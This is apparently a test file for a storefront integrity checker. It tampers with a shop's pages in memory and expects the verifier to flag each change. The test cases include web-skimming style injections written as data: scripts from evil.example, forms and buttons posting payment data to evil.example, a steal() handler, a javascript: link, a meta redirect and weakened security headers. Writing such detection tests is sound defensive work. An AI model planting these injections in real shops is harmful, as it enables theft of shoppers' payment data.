// What `storefront verify` notices: the shop's own pages over a shop in memory, served as they are or with one thing changed on the way.
import { afterEach, expect, test } from "bun:test";
import { assets } from "../storefront/assets.ts";
import { storefrontApp } from "../storefront/app.ts";
import { securityHeaders } from "../storefront/security-headers.ts";
import { ShopInMemory, SHOPPER_TOKEN, storefrontOptions } from "../testkit/storefront.ts";
import type { Release } from "./storefront-pages.ts";
import { verifyStorefront } from "./storefront-verify.ts";

const PROVIDER = "https://js.stripe.com/v3/";
const release: Release = {
  version: "1.2.3",
  scripts: [assets.shop, assets.cardFields],
  providerScripts: [PROVIDER],
  headersOf: (page) => securityHeaders({ ...page, isSecretAddress: false, isHttps: false, pictureHosts: [] }),
};
const product = {
  sku_id: "mug-red",
  name: "Mug",
  unit_price_cents: 1_400,
  currency: "EUR",
  available: { count: 20, is_exact: false },
};
const API: Readonly<Record<string, unknown>> = {
  "/api/v1/products": { products: [product], next: null },
  "/api/v1/openapi.json": { openapi: "3.1.0", info: { version: "1.2.3" } },
  "/api/v1/health": { status: "ok" },
};

type Tamper = (response: Response, request: Request) => Response | Promise<Response>;

const servers: Bun.Server<undefined>[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await server.stop(true);
});

/** A shop with Stripe's card fields. `tamper` stands for whatever changed it since the release. */
function shop(tamper: Tamper = (response) => response): URL {
  const cards = { kind: "stripe", publishableKey: "pk_test_1" } as const;
  const app = storefrontApp(storefrontOptions(new ShopInMemory(), { cards }));
  const api = (path: string) => {
    const body = API[path];
    if (body === undefined) return Response.json({ type: "urn:x" }, { status: 401 });
    return Response.json(body, { headers: { "x-content-type-options": "nosniff" } });
  };
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    development: false,
    fetch: async (request) => {
      const { pathname } = new URL(request.url);
      // So that `tamper` can change the text.
      request.headers.delete("accept-encoding");
      return tamper(pathname.startsWith("/api/") ? api(pathname) : await app.handle(request), request);
    },
  });
  servers.push(server);
  return new URL(server.url);
}

async function findings(tamper: Tamper) {
  const report = await verifyStorefront({ url: shop(tamper), release, token: SHOPPER_TOKEN });
  const failed = report.checks.filter(({ result }) => result === "FAILED");
  expect(report.ok).toBe(failed.length === 0);
  return failed.flatMap(({ check, says }) => says.map((sentence) => `${check}: ${sentence}`));
}

/** Changes the pages and leaves the rest. */
const onPages =
  (change: (html: string, path: string) => string, header?: (headers: Headers) => void): Tamper =>
  async (response, request) => {
    if (response.headers.get("content-type")?.startsWith("text/html") !== true) return response;
    const headers = new Headers(response.headers);
    header?.(headers);
    const html = change(await response.text(), new URL(request.url).pathname);
    return new Response(html, { status: response.status, headers });
  };
const onHeaders = (change: (headers: Headers) => void) => onPages((html) => html, change);
const onPath =
  (path: string, change: (response: Response) => Response | Promise<Response>): Tamper =>
  (response, { url }) =>
    new URL(url).pathname === path ? change(response) : response;

test("a shop of this release is right, with its checkout page and the provider's script there", async () => {
  const report = await verifyStorefront({ url: shop(), release, token: SHOPPER_TOKEN });
  expect(report.checks.filter(({ result }) => result !== "ok")).toEqual([]);
  expect(report.checks.find(({ check }) => check === "pages")?.says).toEqual(["6 pages answer"]);
});

test("without a token the checkout page is not checked, which is said and is no fault", async () => {
  const { ok, checks } = await verifyStorefront({ url: shop(), release });
  const { result, says } = checks.find(({ check }) => check === "checkout page") ?? {};
  expect([ok, result, says?.[0]]).toEqual([true, "not checked", expect.stringContaining("--token-file")]);
  const refused = await verifyStorefront({ url: shop(), release, token: "other" });
  expect(refused.checks.find(({ check }) => check === "checkout page")?.says[0]).toContain("does not accept");
});

const CSP = "content-security-policy";
test.each<[string, Tamper, string]>([
  [
    "a script in a page",
    onPages((html) => html.replace("</body>", "<script>steal()</script></body>")),
    "scripts: / has a script in the page itself",
  ],
  [
    "a script from elsewhere",
    onPages((html) => html.replace("<head>", '<head><script src="https://evil.example/x.js"></script>')),
    "scripts: / loads the script https://evil.example/x.js, which is not in this release",
  ],
  [
    "the provider's script on every page",
    onPages((html) => html.replace("<head>", `<head><script src="${PROVIDER}"></script>`)),
    `scripts: /cart loads the payment provider's ${PROVIDER}, which only the checkout may`,
  ],
  [
    "another script only on the checkout",
    onPages((html, path) =>
      path === "/checkout" ? html.replace("<head>", '<head><script src="/x.js"></script>') : html,
    ),
    "scripts: /checkout loads the script /x.js, which is not in this release",
  ],
  [
    "a script without its hash",
    onPages((html) => html.replaceAll(/ integrity="[^"]*"/g, "")),
    "another hash than this release has",
  ],
  [
    "a handler",
    onPages((html) => html.replace("<main", '<main onclick="steal()"')),
    "scripts: / has a handler onclick on a <main>",
  ],
  [
    "an address that is a script",
    onPages((html) => html.replace("<main", '<a href=" javascript:x()">x</a><main')),
    "scripts: / has an address with a script on a <a>",
  ],
  [
    "a form that leads elsewhere",
    onPages((html) => html.replace("<main", '<form action="https://evil.example/pay"></form><main')),
    'scripts: / has a <form> with action "https://evil.example/pay"',
  ],
  [
    "a button that leads elsewhere",
    onPages((html) => html.replace("<main", '<button formaction="//evil.example/pay">Pay</button><main')),
    'scripts: / has a <button> with formaction "//evil.example/pay"',
  ],
  [
    "a style sheet from elsewhere",
    onPages((html) =>
      html.replace("<head>", '<head><link rel="stylesheet" href="https://evil.example/x.css">'),
    ),
    'scripts: / has a <link> with href "https://evil.example/x.css"',
  ],
  [
    "a page that leads elsewhere by itself",
    onPages((html) =>
      html.replace("<head>", '<head><meta http-equiv="refresh" content="0; url=https://evil.example">'),
    ),
    "scripts: / sends browsers elsewhere by a <meta>",
  ],
  [
    "a frame",
    onPages((html) => html.replace("</body>", "<iframe src='/x'></iframe></body>")),
    "scripts: / has a <iframe>",
  ],
  [
    "other bytes of a script",
    onPath(
      assets.shop.path,
      () => new Response("steal()", { headers: { "x-content-type-options": "nosniff" } }),
    ),
    `scripts: the script ${assets.shop.path} has other bytes than this release`,
  ],
  [
    "another release",
    onPath(assets.shop.path, () => new Response("", { status: 404 })),
    "answers 404: the shop is another release",
  ],
  ["no policy", onHeaders((headers) => headers.delete(CSP)), "headers: / has no content security policy"],
  [
    "a weaker policy",
    onHeaders((headers) =>
      headers.set(CSP, (headers.get(CSP) ?? "").replace("frame-ancestors 'none'", "frame-ancestors *")),
    ),
    "frame-ancestors *",
  ],
  [
    "a missing header",
    onHeaders((headers) => headers.delete("permissions-policy")),
    "headers: / has no header permissions-policy; this release sends",
  ],
  [
    "another referrer policy",
    onHeaders((headers) => headers.set("referrer-policy", "unsafe-url")),
    'referrer-policy "unsafe-url"',
  ],
  [
    "pages from a cache",
    (() => {
      let kept: Response | undefined;
      return onPath("/", (response) => (kept ??= response).clone());
    })(),
    "headers: / has the same nonce twice",
  ],
  [
    "a cookie for scripts",
    onPath("/preferences", (response) => {
      const headers = new Headers(response.headers);
      headers.append("set-cookie", "tracker=1; Path=/; Domain=shop.example; SameSite=Lax");
      return new Response(null, { status: response.status, headers });
    }),
    "cookies: the cookie tracker lacks HttpOnly",
  ],
  [
    "a page that fails",
    onPath("/cart", () => new Response("", { status: 500 })),
    "pages: /cart answers 500, expected 200",
  ],
  [
    "an API for every origin",
    onPath("/api/v1/products", (response) => {
      response.headers.set("access-control-allow-origin", "*");
      return response;
    }),
    "foreign requests: scripts of every site may read the API",
  ],
  [
    "another version",
    onPath("/api/v1/openapi.json", () => Response.json({ openapi: "3.1.0", info: { version: "1.2.2" } })),
    "api: the shop has version 1.2.2, this checkoutctl 1.2.3",
  ],
  [
    "no products",
    onPath("/api/v1/products", () => new Response("", { status: 503 })),
    "api: /api/v1/products?limit=1 has no products (503)",
  ],
  [
    "no orchestrator",
    onPath("/api/v1/health", () => new Response("", { status: 503 })),
    "api: /api/v1/health says that checkouts are not accepted (503)",
  ],
])("noticed: %s", async (_, tamper, sentence) => {
  const found = await findings(tamper);
  expect(found.filter((one) => one.includes(sentence))).not.toEqual([]);
});

test("noticed: forms of other sites are accepted", async () => {
  const open = await findings((response, { headers }) =>
    headers.get("origin") === "https://foreign.invalid" && response.status === 403
      ? new Response(null, { status: 303 })
      : response,
  );
  expect(open).toEqual([
    "foreign requests: a form of another site sent to /preferences is answered with 303, expected 403",
    "foreign requests: a form of another site sent to /checkout is answered with 303, expected 403",
  ]);
});

test("a shop that does not answer is no finding but an error", async () => {
  const url = new URL("http://127.0.0.1:9");
  await expect(verifyStorefront({ url, release })).rejects.toMatchObject({ code: "SERVICE_UNAVAILABLE" });
});
